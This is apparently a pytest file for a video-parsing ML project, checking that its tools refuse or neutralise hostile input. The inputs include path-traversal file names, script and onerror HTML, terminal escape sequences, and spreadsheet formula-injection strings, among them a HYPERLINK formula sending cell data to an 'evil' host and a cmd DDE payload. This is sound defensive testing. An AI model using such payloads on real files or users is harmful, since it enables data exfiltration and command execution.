"""Folders and files that a stranger made, two commands at once, a run begun anew, and words that mislead."""

import csv
import json
import os
import shutil
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
import torch

from conftest import ROOT, TRAINED, need

need("onnx", "onnxscript", "onnxruntime")

import features
import parse
import report
import uwav
from common import command, files
from data import annotations, demo_world, layout, pack, splits
from sources import write_own, write_source
from test_broken_files import toy_parser, write_bundle
from train import checkpoints, cli, manifest, stages
from video import extract

TINY = replace(demo_world.WorldConfig(), train=6, val=3, test=3, source_train=3, source_validation=2, source_test=2)


def content(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def refused(run, *arguments) -> str:
    """What is said, in one line."""
    with pytest.raises((ValueError, OSError, SystemExit)) as error:
        run(*arguments)
    assert "\n" not in str(error.value).strip() and not files.CONTROL.search(str(error.value))
    return str(error.value)


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("world") / "data"
    demo_world.make(folder, TINY)
    return folder


@pytest.fixture
def run(finished, tmp_path) -> Path:
    """A copy of the finished run, in a folder with somebody's thesis."""
    (tmp_path / "thesis.txt").write_text("years of work")
    return Path(shutil.copytree(finished, tmp_path / "run"))


# ---- names out of files ----

NAMES = ("../thesis.txt", "../../thesis.txt", "/thesis.txt", "llp/../../thesis.txt", "llp/train/thesis.npy", "thesis.txt", ".packing/../../thesis.txt",
         "unav/val/clip.npy", "llp/train/weak.npy\x1b[2J", "")


@pytest.mark.parametrize("place", ["", ".packing"])
@pytest.mark.parametrize("name", NAMES)
def test_an_index_that_names_what_no_pack_writes_is_refused_and_nothing_is_touched(world, tmp_path, name, place):
    for precious in ("thesis.txt", "theirs/thesis.txt", "theirs/llp/train/thesis.npy"):
        (tmp_path / precious).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / precious).write_text("years of work")
    name = f"{tmp_path}{name}" if name.startswith("/") else name
    index = json.loads((world / "index.json").read_text()) | dict(files={name: ""})
    files.write_sealed(tmp_path / "theirs" / place / "index.json", index)
    source, before = write_source(tmp_path / "source"), content(tmp_path)
    for replacing in (True, False):
        refused(demo_world.make, tmp_path / "theirs", TINY, None, None, replacing)
    refused(pack.pack, source, tmp_path / "theirs", 1, "stop", True)
    refused(layout.read_index, tmp_path / "theirs" / place)
    assert {k: v for k, v in content(tmp_path).items() if k in before} == before


@pytest.mark.parametrize("name", [".packing/llp/train/thesis.npy", ".packing/thesis.json", ".packing/llp/train/clip.npy/thesis.npy", ".packing/llp/.thesis.part.npy"])
def test_what_no_pack_writes_is_not_deleted_from_the_place_of_an_unfinished_one(tmp_path, name):
    (tmp_path / name).parent.mkdir(parents=True)
    (tmp_path / name).write_text("years of work")
    assert Path(name).name in refused(demo_world.make, tmp_path, TINY) and content(tmp_path) == {name: b"years of work"}


@pytest.mark.parametrize("link", ["llp", "llp/train", ".packing", ".packing/llp", "llp/train/clip.npy", ".packing/llp/train/clip.npy", "index.json"])
def test_a_pack_is_not_written_through_a_link(world, tmp_path, link):
    shutil.copytree(world, tmp_path / "elsewhere")
    before = content(tmp_path / "elsewhere")
    (tmp_path / "out" / link).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / "out" / link).symlink_to(tmp_path / "elsewhere" / link.removeprefix(".packing/").replace(".packing", ""))
    refused(demo_world.make, tmp_path / "out", replace(TINY, seed=1), None, None, True)
    assert content(tmp_path / "elsewhere") == before


@pytest.mark.parametrize("change", [
    lambda a: a["scores"].update({"../../x": a["scores"]["clip_clap"]}), lambda a: a["differences"].update({"/x": a["differences"].pop("clip_clap")}),
    lambda a: a["differences"].update({"<script>": []}), lambda a: a.update(scores={"x\x1b[2J": {}}), lambda a: a["scores"]["clip_clap"].update(other=[]),
    lambda a: a["scores"]["clip_clap"].update(full=["<script>"]), lambda a: a["differences"]["clip_clap"][0].update(first="<script>"),
    lambda a: a.update(seeds="<script>", overrides=7)], ids=range(8))
def test_a_report_of_a_stranger_s_ablation_is_refused_and_writes_nothing(run, tmp_path, change, monkeypatch):
    ablation = json.loads((run / "ablation.json").read_text())
    change(ablation)
    files.write_sealed(run / "ablation.json", ablation)
    monkeypatch.setattr(report.figures, "write", lambda *_: ["<svg></svg>"])
    before = content(tmp_path)
    refused(report.main, [str(run)])
    assert content(tmp_path) == before


def test_no_title_of_a_stranger_runs_in_a_report(run, monkeypatch):
    ablation = json.loads((run / "ablation.json").read_text())
    ablation["trivial"] = {f"<script>{n}</script>": x for n, x in enumerate(ablation["trivial"].values())}
    ablation |= dict(preset="<script>", overrides=["<img onerror=x>"])
    files.write_sealed(run / "ablation.json", ablation)
    (run / "stages.tsv").write_text("\t".join(["<script>", "1", "new", "<script>", "<img onerror=x>", "<b>", "<i>"]) + "\n")
    monkeypatch.setattr(report.figures, "write", lambda *_: ["<svg></svg>"])
    report.main([str(run)])
    text = (run / "report.html").read_text()
    assert "<script" not in text and "<img onerror" not in text and "&lt;script&gt;0" in text


@pytest.mark.parametrize("place, main", [
    ("pictures", lambda run, out: report.main([str(run)])),
    ("bundle/onnx", lambda run, out: __import__("export_onnx").main([str(run), str(run / "bundle")])),
    ("seed0", lambda run, out: cli.main(["ablate", str(run / "data"), str(run), "--seeds", "2", *TRAINED])),
    ("seed0/clip_clap", lambda run, out: cli.main(["ablate", str(run / "data"), str(run), "--seeds", "2", *TRAINED])),
    ("feats_CLIP", lambda run, out: texts(run))])
def test_nothing_is_written_through_a_link_below_the_folder_of_a_run(run, tmp_path, place, main):
    shutil.rmtree(run / place, ignore_errors=True)
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere/parser.onnx").write_text("years of work")
    (run / place).parent.mkdir(exist_ok=True)
    (run / place).symlink_to(tmp_path / "elsewhere")
    assert "leads out of" in refused(main, run, place)
    assert content(tmp_path / "elsewhere") == {"parser.onnx": b"years of work"}


def texts(out: Path) -> None:
    with command.working_in(out):
        extract.write_texts(["dog"], out, lambda x: np.ones((1, 768)), lambda x: np.ones((1, 512)), {})


def run_all(*options: object, **environment: str) -> subprocess.CompletedProcess:
    path = f"{Path(sys.executable).parent}:{os.environ['PATH']}"
    return subprocess.run(["bash", ROOT / "run_all.sh", *map(str, options)], capture_output=True, text=True,
                          env=os.environ | dict(PATH=path) | environment)


@pytest.mark.parametrize("name", ["stages.tsv", ".started"])
def test_run_all_writes_through_no_link(tmp_path, name):
    (tmp_path / "thesis.txt").write_text("years of work")
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / name).symlink_to(tmp_path / "thesis.txt")
    done = run_all("--out", tmp_path / "out")
    assert done.returncode == 1 and f"{name}: a link" in done.stderr and len(done.stderr.splitlines()) == 1, done.stderr
    assert (tmp_path / "thesis.txt").read_text() == "years of work" and [p.name for p in (tmp_path / "out").iterdir()] == [name]


# ---- texts out of files, and into tables ----

ESCAPES = ("\x1b]0;OWNED\x07", "\x1b[2J", "\x9b31m", "a\u202eb", "\x08\x08", "a\rb")


@pytest.mark.parametrize("text", ESCAPES)
def test_what_a_terminal_obeys_is_refused_in_whatever_file_it_stands(run, tmp_path, text, capsys):
    bundle = write_bundle(tmp_path / "bundle", toy_parser())
    whole = json.loads((bundle / "bundle.json").read_text())
    for changed in (dict(dry_run=text), dict(preprocessing=dict(recipe_of_training=text)), {text: 1}, dict(made_from=[dict(a=text)])):
        (bundle / "bundle.json").write_text(json.dumps(whole | changed))
        assert "not the description of a bundle" in refused(parse.main, [str(bundle / "x.npz"), "--bundle", str(bundle)])
    (tmp_path / "labels.csv").write_text(f'video,labels\na,dog\nb,"{text}"\n', encoding="utf-8", newline="")
    refused(features.main, ["text", str(tmp_path / "labels.csv"), str(tmp_path / "own"), "--clip-weights", "random", "--clap-weights", "random"])
    saved = checkpoints.load_file(run / "seed0/teacher.pt")
    checkpoints.save_file(tmp_path / "teacher.pt", saved | dict(settings=saved["settings"] | dict(dry_run=text)))
    refused(stages.seen_by, tmp_path / "teacher.pt")
    for name in ("ablation.json", "data/index.json"):
        files.write_sealed(run / name, json.loads((run / name).read_text()) | dict(source=text))
        refused(files.read_sealed, run / name, "x")
    said = capsys.readouterr()
    assert text not in said.out + said.err and not {"\x1b", "\x9b", "\x07"} & set(said.out + said.err)


def test_an_error_that_quotes_a_file_shows_numbers_in_the_place_of_escapes(tmp_path):
    with pytest.raises(SystemExit, match=r"^error: .*\\x1b\[2J.*no such file"):
        with command.one_sentence_errors():
            files.read_json(tmp_path / "\x1b[2J")
    assert files.reason(ValueError("\x1b[31mred")) == r"\x1b[31mred"
    assert "\x1b" not in parse._first_line(ValueError("\x1b[31mred"))


FORMULAS = ('=HYPERLINK("http://evil/?"&A1,"x")', "=cmd|' /C calc'!A0", "-2+3", "+1", "@SUM(1)", "'=1+1", "''=1", "＝1+1")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_that_is_written_is_a_formula_and_all_are_read_as_they_were(tmp_path, text):
    name = text.replace("/", "")
    (tmp_path / "clips").mkdir()
    (tmp_path / "clips" / f"{name}.mp4").write_bytes(b"")
    (tmp_path / "clips" / "a.mp4").write_bytes(b"")
    features.main(["template", str(tmp_path / "clips"), str(tmp_path / "own")])
    failures = extract.Failures(tmp_path, tmp_path / "clips")
    failures.add(tmp_path / "clips" / f"{name}.mp4", text)
    bundle = write_bundle(tmp_path / "bundle", toy_parser())
    info = json.loads((bundle / "bundle.json").read_text())
    (bundle / "bundle.json").write_text(json.dumps(info | dict(classes=[text, *info["classes"][1:]])))
    shutil.copy(bundle / "x.npz", bundle / f"{name}.npz")
    parse.main([str(bundle / f"{name}.npz"), "--bundle", str(bundle), "--csv", str(tmp_path / "e.csv")])
    tables = {path: list(csv.reader(open(path, newline="", encoding="utf-8-sig"))) for path in (
        tmp_path / "own/labels.csv", tmp_path / "own/events.csv", tmp_path / "failures.csv", tmp_path / "e.csv")}
    assert all(len(rows) > 1 for rows in tables.values())
    assert not [cell for rows in tables.values() for row in rows for cell in row if cell[:1] and cell[0] in "=+-@＝"]
    assert extract.Failures(tmp_path, tmp_path / "clips").causes == {(f"{name}.mp4", 0): text}
    assert [row["video"] for _, row in annotations.read_table(tmp_path / "own/labels.csv", ("video",))] == sorted(["a.mp4", f"{name}.mp4"])
    assert {row["label"] for _, row in annotations.read_table(tmp_path / "e.csv", ("label",))} & {text}


def test_a_file_whose_name_cannot_be_an_id_gets_no_features_and_no_row(tmp_path):
    for name in ("a.mp4", "b\x1b[2J.mp4", "c\nd.mp4", "e\u202ef.mp4"):
        (tmp_path / name).touch()
    videos, without = annotations.find_videos(tmp_path, llp=False)
    assert list(videos) == ["a"] and set(without.values()) == {"its name cannot be a video's id"}


# ---- two at once ----


@pytest.mark.parametrize("name", ["report", "template", "text", "evaluate"])
def test_every_command_that_writes_into_a_folder_holds_it(run, tmp_path, name):
    out = run if name == "report" else tmp_path / "out"
    (tmp_path / "clips").mkdir()
    (tmp_path / "clips/a.mp4").touch()
    (tmp_path / "classes.txt").write_text("dog\n")
    main = {"report": lambda: report.main([str(run)]), "template": lambda: features.main(["template", str(tmp_path / "clips"), str(out)]),
            "text": lambda: features.main(["text", str(tmp_path / "classes.txt"), str(out), "--clip-weights", "random", "--clap-weights", "random"]),
            "evaluate": lambda: cli.main(["evaluate", str(run / "data"), str(run / "seed0/clip_clap/full/han.pt"), "--out", str(out)])}[name]
    holder = subprocess.Popen([sys.executable, "-c", f"from common.command import working_in\nwith working_in({str(out)!r}): print('held', flush=True); input()"],
                              cwd=ROOT, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    assert holder.stdout.readline() == "held\n"
    before = content(out)
    try:
        assert "another run is at work there" in refused(main)
        assert content(out) == before
    finally:
        holder.communicate("\n")


def test_of_two_evaluations_of_different_models_into_one_folder_the_second_is_refused(run, tmp_path, monkeypatch):
    """Also if it began before the first one had written anything."""
    rows, original = run / "seed0/clip_clap", uwav.parsing_scores

    def second(*arguments):
        monkeypatch.setattr(uwav, "parsing_scores", original)
        cli.main(["evaluate", str(run / "data"), str(rows / "full/han.pt"), "--out", str(tmp_path / "out")])
        return original(*arguments)

    monkeypatch.setattr(uwav, "parsing_scores", second)
    assert "scores of another model" in refused(cli.main, ["evaluate", str(run / "data"), str(rows / "soft/han.pt"), "--out", str(tmp_path / "out")])
    assert json.loads((tmp_path / "out/scores_test.json").read_text())["made_from"]["model"] == files.file_hash(rows / "full/han.pt")


# ---- begun anew ----


def begin(out: Path, fresh: bool = True) -> None:
    directory = os.open(out, os.O_RDONLY)
    try:
        manifest.begin(directory, str(out), fresh)
    finally:
        os.close(directory)


def test_the_manifest_lists_what_a_run_writes_and_fresh_deletes_that(run, bundle, tmp_path):
    report.main([str(run)])
    shutil.copytree(bundle, run / "bundle")
    left = [*content(run), "stages.tsv", ".started", ".report.part.html", "seed3/.teacher.state.part.pt", "seed3/teacher.state.pt", "data/.packing/made.json",
            "data/.packing/llp/train/.clip.part.npy", "seed11/clip_clap/full/.han.part.pt", "bundle/.part/onnx/.parser.part.onnx", "seed0/.labels_teacher.part.npz",
            "pictures/.curves-1.part.svg", "field.json", "seed0/base/field/noise/ratios.npz"]
    for name in left:
        (run / name).parent.mkdir(parents=True, exist_ok=True)
        (run / name).touch()
    assert all(map(manifest.is_ours, content(run)))
    begin(run)
    assert list(run.iterdir()) == [] and (tmp_path / "thesis.txt").exists()


@pytest.mark.parametrize("name", ["pictures/holiday.png", "bundle/onnx/mine.onnx", "seed0/.thesis.part.pt", "seed0/clip_clap/mine/han.pt", "tables.txt.bak", ".part/x",
                                  "data/llp/train/mine.npy", "seed0/clip_clap/full/scores_train.json", "link", "data"])
def test_fresh_refuses_a_folder_with_anything_else_and_deletes_nothing(tmp_path, name):
    for ours in ("seed0/teacher.pt", name):
        (tmp_path / ours).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / ours).write_text("x")
    if name in ("link", "data"):
        (tmp_path / name).unlink()
        (tmp_path / name).symlink_to(ROOT)
    before = sorted(tmp_path.rglob("*"))
    assert Path(name).name in refused(begin, tmp_path) and sorted(tmp_path.rglob("*")) == before


@pytest.mark.parametrize("place", [".", "data", "seed0", "seed7/clip_clap/full", "bundle"])
def test_fresh_deletes_nothing_of_a_run_at_work(tmp_path, place):
    (tmp_path / place).mkdir(parents=True, exist_ok=True)
    (tmp_path / "tables.txt").write_text("x")
    with command.working_in(tmp_path / place):
        done = subprocess.run([sys.executable, "-c", "import os, sys; from train.manifest import begin; begin(os.open(sys.argv[1], 0), sys.argv[1], True)", tmp_path],
                              cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 1 and "another run is at work there" in done.stderr and (tmp_path / "tables.txt").exists()


def test_fresh_on_a_link_empties_what_it_leads_to_and_keeps_the_link(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "real/tables.txt").write_text("x")
    (tmp_path / "link").symlink_to(tmp_path / "real")
    begin(tmp_path / "link")
    assert (tmp_path / "link").is_symlink() and list((tmp_path / "real").iterdir()) == []


@pytest.mark.parametrize("options", [("--out", "", "--fresh"), ("--data", ""), ("--own", ""), ("--teacher", "", "--own", "x"), ("--seeds", "")])
def test_run_all_takes_no_empty_value_for_the_default(options):
    done = run_all(*options)
    assert done.returncode == 1 and f"error: {options[0]} needs a value" in done.stderr


@pytest.mark.parametrize("main, arguments", [
    (cli.main, ["pretrain", "", "out"]), (cli.main, ["pretrain", "data", ""]), (cli.main, ["label", "data", "out", "--teacher="]), (features.main, ["demo", ""]),
    (features.main, ["pack", "source", ""]), (features.main, ["template", "clips", ""]), (report.main, [""])])
def test_no_command_takes_an_empty_word_for_the_current_folder(main, arguments, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SystemExit) as stop:
        main(arguments)
    assert stop.value.code == 2 and "empty" in capsys.readouterr().err and not list(tmp_path.iterdir())


def test_a_second_run_all_is_refused_while_the_first_is_at_work(tmp_path):
    with command.working_in(tmp_path):
        for options in ((), ("--fresh",), ("--seeds", "2")):
            done = run_all("--out", tmp_path, *options)
            assert done.returncode == 1 and f"{tmp_path}: another run is at work there" in done.stderr and len(done.stderr.splitlines()) == 1
    assert not list(tmp_path.iterdir())


# ---- words ----


@pytest.mark.parametrize("error, words", [
    (MemoryError(), "out of memory"), (np.core._exceptions._ArrayMemoryError((9,), np.dtype("f8")) if hasattr(np, "core") else MemoryError("x"), "out of memory"),
    (RuntimeError("[enforce fail at alloc_cpu.cpp:118] err == 0. DefaultCPUAllocator: can't allocate memory: you tried to allocate 9 bytes."), "out of memory"),
    (torch.OutOfMemoryError("CUDA out of memory."), "out of memory"), (OSError(12, "Cannot allocate memory"), "out of memory"),
    (RuntimeError("std::bad_alloc"), "out of memory"), (RuntimeError("can't start new thread"), "out of threads"),
    (BlockingIOError(11, "Resource temporarily unavailable"), "out of threads")])
@pytest.mark.parametrize("reader", ["array", "label", "checkpoint"])
def test_what_the_machine_lacks_is_no_fault_of_a_file(run, tmp_path, error, words, reader, monkeypatch):
    def fails(*_, **__):
        raise error

    name, main = {
        "array": ("numpy.load", lambda: cli.main(["label", str(run / "data"), str(tmp_path / "l"), "--per-segment", "--device", "cpu"])),
        "label": ("uwav.fit_thresholds", lambda: cli.main(["label", str(run / "data"), str(tmp_path / "l"), "--per-segment", "--device", "cpu"])),
        "checkpoint": ("torch.load", lambda: cli.main(["evaluate", str(run / "data"), str(run / "seed0/clip_clap/full/han.pt"), "--device", "cpu"]))}[reader]
    stages._target.cache_clear()
    monkeypatch.setattr(name, fails)
    said = refused(main)
    assert said.startswith(f"error: {words}") and "make it again" not in said and "--set" not in said


@pytest.mark.parametrize("setting", ["heads=0", "hidden=0", "batch=0", "feedforward=0", "epochs=0", "length_pool=0", "alpha=0", "temperature=0", "dropout=1", "dropout=3",
                                     "beta1=1", "classes=7", "audio_dim=3", "visual_dim=3", "visual_2d_dim=2048", "visual_3d_dim=1", "seed=-1", "peak_lr=-1", "seed=9999999999999999999"])
@pytest.mark.parametrize("stage", ["pretrain", "ablate"])
def test_a_setting_that_cannot_be_is_one_sentence_that_names_it(world, tmp_path, setting, stage):
    said = refused(cli.main, [stage, str(world), str(tmp_path / "out"), "--preset", "demo", "--device", "cpu", "--set", setting])
    assert said.startswith(f"error: --set {setting.split('=')[0]}") and not (tmp_path / "out").exists()


@pytest.mark.parametrize("main", [lambda s: cli.main(["pretrain", "data", "out", "--seed", s]), lambda s: features.main(["demo", "out", "--seed", s]),
                                  lambda s: report.main(["run", "--seed", s]), lambda s: cli.main(["ablate", "data", "out", "--seed", s])])
@pytest.mark.parametrize("seed", ["-1", "-300", "1.5", "99999999999999999999", "x"])
def test_a_seed_that_cannot_be_names_the_option(main, seed, capsys):
    with pytest.raises(SystemExit) as stop:
        main(seed)
    assert stop.value.code == 2 and f"--seed: {seed}: must be from 0" in (said := capsys.readouterr().err) or f"argument --seed: invalid int value: '{seed}'" in said


# ---- numbers ----


@pytest.mark.parametrize("logits, truth", [((-3.4e38, -3.0e38, -2.0e38), (0, 0, 1)), ((2e38, 3e38, 3.4e38), (0, 1, 1)), ((-3e38, -1.8e38), (0, 1)),
                                           ((-3.4e38, -3.3e38, 3.4e38), (0, 1, 1)), ((0.0, 1e-45), (0, 1)), ((-1e-45, 0.0), (0, 1))])
def test_a_threshold_attains_its_f1_at_the_ends_of_single_precision(logits, truth):
    z, y = (torch.tensor(x)[None, :, None] for x in (logits, [float(t) for t in truth]))
    threshold, f1 = uwav.fit_thresholds(z, y, torch.ones(1, 1))
    assert f1.item() == 1 and threshold.isfinite().all() and ((z > threshold).float() == y).all()


@pytest.mark.parametrize("factor", [1e30, 1e38])
@pytest.mark.parametrize("part", ["audio.mlp_out.2.weight", "visual.mlp_in.0.weight"])
def test_a_teacher_of_huge_weights_writes_no_labels(run, tmp_path, factor, part):
    saved = checkpoints.load_file(run / "seed0/teacher.pt")
    saved["weights"][part] = saved["weights"][part] * factor
    saved["weights"]["audio.mlp_out.0.weight"] = saved["weights"]["audio.mlp_out.0.weight"] * 1e20
    checkpoints.save_file(tmp_path / "teacher.pt", saved)
    said = refused(cli.main, ["label", str(run / "data"), str(tmp_path / "l"), "--teacher", str(tmp_path / "teacher.pt"), "--device", "cpu"])
    assert "teacher.pt" in said and not list((tmp_path / "l").glob("*.npz"))


def test_a_parser_of_huge_weights_has_no_scores(run, tmp_path):
    saved = checkpoints.load_file(run / "seed0/clip_clap/full/han.pt")
    saved["weights"] = {name: x * (1e38 if "proj" in name else 1) for name, x in saved["weights"].items()}
    checkpoints.save_file(tmp_path / "han.pt", saved)
    assert "han.pt" in refused(cli.main, ["evaluate", str(run / "data"), str(tmp_path / "han.pt"), "--device", "cpu"]) and not list(tmp_path.glob("scores*"))


@pytest.mark.parametrize("change, words", [
    (lambda x: x * 2, "unit length"), (lambda x: x * 0, "unit length"), (lambda x: np.concatenate([x[:1] * 1.1, x[1:]]), "unit length"), (lambda x: x * 1.001, "")])
def test_pack_says_which_texts_are_not_of_unit_length(tmp_path, change, words, capsys):
    source = write_own(tmp_path / "own", "video,labels\na,dog\nb,bell\n")
    for encoder in layout.TEXTED.values():
        x = np.load(source / encoder.texts)
        np.save(source / encoder.texts, (x / np.linalg.norm(x, axis=1, keepdims=True)).astype(np.float32))
    path = source / layout.TEXTED["clap"].texts
    np.save(path, change(np.load(path)).astype(np.float32))
    pack.pack(source, tmp_path / "out", 1)
    said = capsys.readouterr().err
    assert (words in said and str(path) in said) if words else "unit length" not in said


@pytest.mark.parametrize("size, faint", [(1e-6, True), (1e-7, True), (1e-9, True), (1e-5, True), (1e-2, False), (1.0, False), (0.0, False)])
def test_pack_says_which_features_half_precision_cannot_hold(tmp_path, size, faint, capsys):
    source = write_own(tmp_path / "own", "video,labels\na,dog\nb,bell\n")
    path = source / layout.TEXTED["clip"].folder / "b.npy"
    x = np.load(path)
    x[-1] = size * np.random.default_rng(0).uniform(0.5, 1, x.shape[1])
    np.save(path, x)
    pack.pack(source, tmp_path / "out", 1)
    said = capsys.readouterr().err
    assert ("half precision" in said and str(path) in said) == faint


@pytest.mark.parametrize("name", ["llp/train/clip.npy", "unav/test/clap.npy", "llp/val/clip.npy", "made.json"])
def test_a_bit_that_flips_between_a_kill_and_the_next_run_is_not_packed(world, tmp_path, name, monkeypatch):
    def killed(*_):
        raise KeyboardInterrupt

    with monkeypatch.context() as patch:
        patch.setattr(layout, "finish_pack", killed)
        with pytest.raises(KeyboardInterrupt):
            demo_world.make(tmp_path, TINY)
    content_, path = bytearray((tmp_path / ".packing" / name).read_bytes()), tmp_path / ".packing" / name
    content_[len(content_) * 3 // 4] ^= 1
    path.write_bytes(content_)
    demo_world.make(tmp_path, TINY)
    assert content(tmp_path) == content(world)
    splits.load_target(tmp_path, "train", "clip_clap", "cpu")
